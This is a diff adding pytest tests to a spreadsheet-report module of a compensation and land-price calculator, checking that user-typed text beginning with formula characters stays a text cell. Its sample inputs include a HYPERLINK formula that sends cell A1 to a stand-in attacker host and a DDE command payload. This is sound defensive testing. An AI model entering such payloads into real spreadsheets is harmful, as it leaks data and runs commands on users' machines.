@@ -1,18 +1,27 @@
 """The workbooks: read back with pandas and openpyxl; values are numbers, checks are formulas."""
 from __future__ import annotations
 
+import dataclasses
+import html
+import json
+import re
+import zipfile
 from decimal import Decimal
 from pathlib import Path
+from typing import Sequence
 
 import openpyxl
 import pandas as pd
 import pytest
 
-from calculator import reports
-from calculator.case import case_from_json, fingerprint
+import tables
+from calculator import reports, survey
+from calculator.case import case_from_dict, case_from_json, fingerprint
 from calculator.compensation import compute
 from calculator.landprice import parcel_from_dict, price_parcel
+from calculator.reports import cells as cells_module
 from calculator.reports import xlsx
+from calculator.store.base import LedgerRow, Status
 from calculator.text_report import width
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -168,3 +177,82 @@ def test_decimal_becomes_float_only_at_the_cell():
     assert xlsx._number(Decimal("443.30")) == 443.3
     sheet = xlsx.settlement_sheet(household())
     assert all(isinstance(row.amount, Decimal) for section in sheet.sections for row in section.rows)
+
+
+# What a user might type that a spreadsheet would run: OWASP's CSV injection starts (= + - @ tab CR) and
+# an error value. Every one must come back as the text typed, in a text cell.
+TYPED = ('=HYPERLINK("http://evil.example/?"&A1,"点此领取补偿")', "=1+2", "+1+2", "-1+2", "@SUM(1,2)",
+         "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0", "#N/A")
+
+
+def as_read(text: str) -> str:
+    """The text as a workbook gives it back: XML reads a lone CR as LF, so the writer stores LF."""
+    return text.replace("\r", "\n")
+
+
+def assert_typed_text_stays_text(path: Path, typed: Sequence[str], formulas: int) -> None:
+    """Each typed text is in some cell, every such cell is a text cell, and only the project's checks are formulas."""
+    book = openpyxl.load_workbook(path)
+    cells = [cell for ws in book for row in ws.iter_rows() for cell in row if cell.value is not None]
+    for text in typed:
+        found = [cell for cell in cells if cell.value == as_read(text)]
+        assert found, f"{text!r} is not in the workbook"
+        for cell in found:
+            assert cell.data_type == "s", (text, cell.coordinate, cell.data_type)
+            assert cell.quotePrefix == text.startswith(cells_module.FORMULA_STARTS), (text, cell.coordinate)
+    checks = [cell.value for cell in cells if cell.data_type == "f"]
+    assert len(checks) == formulas and all(re.fullmatch(r"=SUM(IF)?\([^=]*\)", value) for value in checks), checks
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    in_formulas = [html.unescape(f) for xml in sheets for f in re.findall(r"<f>(.*?)</f>", xml, re.S)]
+    assert len(in_formulas) == formulas
+    for formula in in_formulas:
+        assert re.fullmatch(r"SUM(IF)?\([^=]*\)", formula) and not any(t.lstrip("\t\r=") in formula for t in typed)
+
+
+def test_every_text_a_user_typed_is_a_text_cell_in_the_settlement_workbook(tmp_path):
+    data = json.loads((ROOT / "examples/household.json").read_text(encoding="utf-8"))
+    fields = [(data["household"], "head"), (data["household"], "address"), (data["household"], "phone"),
+              (data["household"], "id_number"), (data["assessor"], "name"), (data["assessor"], "organisation"),
+              (data, "case_id"), (data["items"][0], "note"), (data["items"][1], "note")]
+    for (block, key), text in zip(fields, TYPED):
+        block[key] = text
+    path = tmp_path / "typed.xlsx"
+    reports.compensation_xlsx(compute(case_from_dict(data)), path)
+    assert_typed_text_stays_text(path, TYPED, formulas=3)  # 2 SUMIF rows in 明细, the SUM row in 汇总
+
+
+def test_every_text_a_user_typed_is_a_text_cell_in_the_land_price_workbook(tmp_path):
+    price = parcel(reference=TYPED[0], location=TYPED[1],
+                   corrections={"term_years": 40, "reduction_rate": "0.06", "factor_pct": "3",
+                                "basis": {"factor_pct": TYPED[2], "term_years": TYPED[3]}})
+    path = tmp_path / "typed.xlsx"
+    reports.parcel_xlsx(price, path)
+    assert_typed_text_stays_text(path, TYPED[:4], formulas=5)
+
+
+def test_every_text_a_user_typed_is_a_text_cell_in_the_ledger(tmp_path):
+    rows = [LedgerRow(index, TYPED[index % len(TYPED)], TYPED[(index + 1) % len(TYPED)],
+                      TYPED[(index + 2) % len(TYPED)], Decimal("100.00"), Decimal("5000.00"), Decimal("300.00"),
+                      Decimal("40.00"), Status.COMPUTED, TYPED[(index + 3) % len(TYPED)], "2023-06-12 10:00", "李明", 1)
+            for index in range(len(TYPED))]
+    path = tmp_path / "台账.xlsx"
+    reports.ledger_xlsx(rows, path, title=TYPED[1])
+    assert_typed_text_stays_text(path, TYPED, formulas=4)
+
+
+def test_every_text_of_the_survey_template_is_a_text_cell(tmp_path):
+    schedule = dataclasses.replace(tables.load_schedule(), title=TYPED[0])  # the guide's first line starts with it
+    path = tmp_path / "template.xlsx"
+    survey.template_book(schedule).save(path)
+    book = openpyxl.load_workbook(path)
+    texts = [cell for ws in book for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert texts and all(cell.data_type == "s" for cell in texts)
+    assert book[survey.GUIDE_SHEET]["A1"].value.startswith(TYPED[0])
+    assert_typed_text_stays_text(path, (), formulas=0)
+
+
+def test_only_a_formula_goes_in_as_one():
+    book = openpyxl.Workbook()
+    with pytest.raises(ValueError, match="not a formula"):
+        cells_module.put_formula(book.active["A1"], "SUM(A2:A3)")
